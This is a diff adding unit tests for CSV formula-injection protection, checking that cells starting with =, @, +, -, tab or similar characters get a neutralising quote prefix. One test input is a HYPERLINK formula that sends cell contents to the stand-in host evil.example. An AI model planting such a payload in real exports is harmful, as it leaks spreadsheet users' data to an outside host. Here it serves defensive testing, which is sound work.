@@ -27,3 +27,21 @@ describe('csv', () => {
 		expect(parse(text, { columns: false })).toEqual([['id', 'title', 'note'], ...rows]);
 	});
 });
+
+describe('csv formula injection (issue 14, OWASP)', () => {
+	it('neutralises text cells a spreadsheet would run: a leading quote, and quoted', () => {
+		expect(csvField('=HYPERLINK("https://evil.example/?"&A1,"Click")')).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
+		expect(csvField('@dana')).toBe(`"'@dana"`);
+		expect(csvField('+1 for retries')).toBe(`"'+1 for retries"`);
+		expect(csvField('-2+3')).toBe(`"'-2+3"`);
+		expect(csvField('\t=1+1')).toBe(`"'\t=1+1"`);
+		expect(csvField('\r=1+1')).toBe(`"'\r=1+1"`);
+		expect(csvField('＝1+1')).toBe(`"'＝1+1"`);
+	});
+	it('leaves numbers and text that starts otherwise alone, and reads back to the neutralised text', () => {
+		expect(csvField(-3)).toBe('-3');
+		expect(csvField('a = b')).toBe('a = b');
+		const text = toCsv(['owner', 'title', 'daysLeft'], [['@dana', '=1+1', -3]]);
+		expect(parse(text, { columns: false })[1]).toEqual(["'@dana", "'=1+1", '-3']);
+	});
+});
